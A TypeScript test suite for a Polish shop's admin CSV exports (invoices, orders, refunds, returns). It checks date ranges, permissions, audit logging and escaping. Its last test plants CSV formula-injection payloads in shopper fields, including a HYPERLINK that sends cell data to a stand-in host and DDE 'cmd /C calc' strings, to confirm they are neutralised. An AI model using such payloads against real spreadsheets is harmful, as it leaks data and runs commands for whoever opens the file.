import { parse } from 'csv-parse/sync';
import { asc } from 'drizzle-orm';
import { beforeAll, expect, it } from 'vitest';
import type { AuditEntry } from '@shop/shared/audit';
import { invoices } from '../../db/schema/invoices.ts';
import { bearer, createStaff, type TestAccount } from '../../test/accounts.ts';
import { describeEachDb } from '../../test/harness.ts';
import {
  MANY_UNPAID_ORDERS,
  addInvoiceDetails,
  makeProduct,
  makeShopper,
  payInSimulator,
  placeOrder,
} from '../../test/order-fixtures.ts';

/** A CSV answer as Polish Excel reads it: the BOM, then ";"-separated rows. */
function table(body: string) {
  expect(body.startsWith('\uFEFF')).toBe(true);
  return parse(body.slice(1), { delimiter: ';' }) as string[][];
}

describeEachDb(
  'exports for the accountant',
  (ctx) => {
    let reader: TestAccount;
    const orderIds: number[] = [];
    const get = (url: string, who: TestAccount = reader) =>
      ctx().app.inject({ url, headers: bearer(who.token) });

    beforeAll(async () => {
      const { app, clock } = ctx();
      // 31 March 2027, 23:30 in Warsaw (21:30 UTC, summer time): March.
      clock.set('2027-03-31T21:30:00Z');
      reader = await createStaff(app, ['READ_ORDERS', 'READ_CUSTOMERS']);
      const buyer = await makeShopper(app);
      const detailsId = await addInvoiceDetails(app, buyer);
      for (const price of [12_300, 4_999]) {
        const product = await makeProduct(app, { price });
        const order = await placeOrder(app, buyer, [{ productId: product, quantity: 1 }], {
          invoiceDetailsId: detailsId,
        });
        expect((await payInSimulator(app, order.paymentUrl)).statusCode).toBe(303);
        orderIds.push(order.id);
      }
      // 1 April in Warsaw: an unpaid order that belongs to April.
      clock.set('2027-03-31T22:30:00Z');
      const product = await makeProduct(app, { price: 999 });
      orderIds.push((await placeOrder(app, buyer, [{ productId: product, quantity: 1 }])).id);
    });

    it('invoices of a month: one row per invoice with net, VAT, gross, payment date and method', async () => {
      const res = await get('/api/admin/exports/invoices.csv?from=2027-03-01&to=2027-03-31');
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).toBe(
        'attachment; filename="faktury-2027-03-01-2027-03-31.csv"',
      );
      const [header, ...rows] = table(res.body);
      expect(header).toEqual([
        'Numer',
        'Rodzaj',
        'Data wystawienia',
        'Data sprzedaży',
        'Numer zamówienia',
        'Korygowana faktura',
        'Nabywca',
        'NIP nabywcy',
        'Netto',
        'VAT',
        'Brutto',
        'Numer KSeF',
        'KSeF',
        'Data płatności',
        'Sposób płatności',
      ]);
      const stored = await ctx().app.db.select().from(invoices).orderBy(asc(invoices.id));
      const march = stored.filter((invoice) => orderIds.slice(0, 2).includes(invoice.orderId));
      expect(rows.map((row) => row[0])).toEqual(march.map((invoice) => invoice.number));
      const first = rows[0]!;
      expect(first.slice(1, 5)).toEqual([
        'Faktura VAT',
        '2027-03-31 23:30',
        '2027-03-31',
        String(orderIds[0]),
      ]);
      // 123,00 zł for the product and 10,00 zł delivery: 133,00 gross.
      expect(first.slice(8, 11)).toEqual(['108,13', '24,87', '133,00']);
      expect(first.slice(13)).toEqual(['2027-03-31 23:30', 'Przelew online']);
    });

    it('orders of a Warsaw day range: the unpaid April order is not in March, and is in April', async () => {
      const march = table(
        (await get('/api/admin/exports/orders.csv?from=2027-03-01&to=2027-03-31')).body,
      );
      expect(march.slice(1).map((row) => row[0])).toEqual(orderIds.slice(0, 2).map(String));
      expect(march[1]!.slice(1, 4)).toEqual(['2027-03-31 23:30', 'Opłacone', expect.any(String)]);
      const april = table(
        (await get('/api/admin/exports/orders.csv?from=2027-04-01&to=2027-04-30')).body,
      );
      expect(april.slice(1).map((row) => [row[0], row[2], row[9], row[12]])).toEqual([
        [String(orderIds[2]), 'Czeka na płatność', '19,99', ''],
      ]);
    });

    it('every order of a day once, in the order placed', async () => {
      const { app } = ctx();
      const buyer = await makeShopper(app);
      const product = await makeProduct(app, { price: 100, stock: 600 });
      const placed: number[] = [];
      for (let i = 0; i < 3; i += 1) {
        placed.push((await placeOrder(app, buyer, [{ productId: product, quantity: 1 }])).id);
      }
      const rows = table(
        (await get('/api/admin/exports/orders.csv?from=2027-04-01&to=2027-04-01')).body,
      );
      expect(rows.slice(1).map((row) => Number(row[0]))).toEqual([orderIds[2], ...placed]);
    });

    it('refunds and returns have their own files; bad ranges and strangers are refused', async () => {
      for (const kind of ['refunds', 'returns']) {
        const res = await get(`/api/admin/exports/${kind}.csv?from=2027-03-01&to=2027-03-31`);
        expect(res.statusCode).toBe(200);
        expect(table(res.body)).toHaveLength(1);
      }
      const backwards = await get('/api/admin/exports/orders.csv?from=2027-03-31&to=2027-03-01');
      expect(backwards.statusCode).toBe(400);
      expect(backwards.json().message).toContain('Data końcowa jest przed początkową');
      const tooLong = await get('/api/admin/exports/orders.csv?from=2026-01-01&to=2027-03-01');
      expect(tooLong.json().message).toContain('najwyżej 366 dni');
      const missing = await get('/api/admin/exports/orders.csv');
      expect(missing.statusCode).toBe(400);
      const shopper = await makeShopper(ctx().app);
      expect(
        (await get('/api/admin/exports/orders.csv?from=2027-03-01&to=2027-03-31', shopper))
          .statusCode,
      ).toBe(403);
    });

    it("shoppers' personal data needs READ_CUSTOMERS too; every download is in the audit trail", async () => {
      const ordersOnly = await createStaff(ctx().app, ['READ_ORDERS']);
      for (const kind of ['orders', 'invoices']) {
        const res = await get(
          `/api/admin/exports/${kind}.csv?from=2027-03-01&to=2027-03-31`,
          ordersOnly,
        );
        expect(res.statusCode).toBe(403);
        expect(res.json().message).toContain('READ_CUSTOMERS');
      }
      const refunds = await get(
        '/api/admin/exports/refunds.csv?from=2027-03-01&to=2027-03-31',
        ordersOnly,
      );
      expect(refunds.statusCode).toBe(200);

      expect(
        (await get('/api/admin/exports/orders.csv?from=2027-03-01&to=2027-03-31')).statusCode,
      ).toBe(200);
      const trail = await get(
        `/api/admin/audit?entity=export&staff=${encodeURIComponent(reader.user.email)}`,
      );
      const [latest] = trail.json<{ items: AuditEntry[] }>().items;
      expect(latest).toMatchObject({
        staffEmail: reader.user.email,
        entity: 'export',
        entityId: 'orders',
        action: 'export.download',
        note: 'zamowienia-2027-03-01-2027-03-31.csv',
        changes: [
          { field: 'from', old: null, new: '2027-03-01' },
          { field: 'to', old: null, new: '2027-03-31' },
        ],
      });
      // A refused download is not one.
      const refused = await get(
        `/api/admin/audit?entity=export&staff=${encodeURIComponent(ordersOnly.user.email)}`,
      );
      expect(refused.json<{ items: AuditEntry[] }>().items.map((entry) => entry.entityId)).toEqual([
        'refunds',
      ]);
    });

    it('no cell of any export runs as a formula, whatever a shopper typed', async () => {
      const { app, clock } = ctx();
      clock.set('2027-02-10T10:00:00Z');
      const typed = {
        '=': '=HYPERLINK("http://zly.example/?d="&A1,"Kliknij")',
        '+': '+48 SUM(A1:A9)',
        '-': "-2+3+cmd|' /C calc'!A0",
        '@': "@SUM(1+1)*cmd|' /C calc'!A0",
      };
      const names: string[] = [];
      for (const [start, text] of Object.entries(typed)) {
        const buyer = await makeShopper(app);
        const address = await app.inject({
          method: 'POST',
          url: '/api/users/me/addresses',
          headers: bearer(buyer.token),
          payload: {
            name: text,
            street: text,
            city: text,
            postalCode: '30-001',
            country: 'Polska',
          },
        });
        expect(address.statusCode, address.body).toBe(201);
        const company = await app.inject({
          method: 'POST',
          url: '/api/users/me/invoice-details',
          headers: bearer(buyer.token),
          payload: {
            name: `${start}Firma ${text}`,
            street: text,
            postalCode: '00-001',
            city: text,
            country: 'Polska',
            taxId: '1234563218',
          },
        });
        expect(company.statusCode, company.body).toBe(201);
        names.push(text, `${start}Firma ${text}`);
        for (const invoiceDetailsId of [null, company.json().id as number]) {
          const product = await makeProduct(app, { price: 2_000 });
          const order = await placeOrder(app, buyer, [{ productId: product, quantity: 1 }], {
            shippingAddressId: address.json().id,
            invoiceDetailsId,
          });
          expect((await payInSimulator(app, order.paymentUrl)).statusCode).toBe(303);
        }
      }
      const cells: string[] = [];
      for (const kind of ['orders', 'invoices']) {
        const res = await get(`/api/admin/exports/${kind}.csv?from=2027-02-10&to=2027-02-10`);
        expect(res.statusCode).toBe(200);
        cells.push(...table(res.body).flat());
      }
      // What Excel and LibreOffice run: a cell beginning with = + - @, a tab or a CR, unless it
      // is a plain negative number.
      const runs = (cell: string) => /^[-=+@\t\r]/.test(cell) && !/^-\d+(,\d+)?$/.test(cell);
      expect(cells.filter(runs)).toEqual([]);
      // Each typed text is there, shown as the shopper typed it behind an apostrophe.
      for (const name of names) expect(cells).toContain(`'${name}`);
    });
  },
  MANY_UNPAID_ORDERS,
);
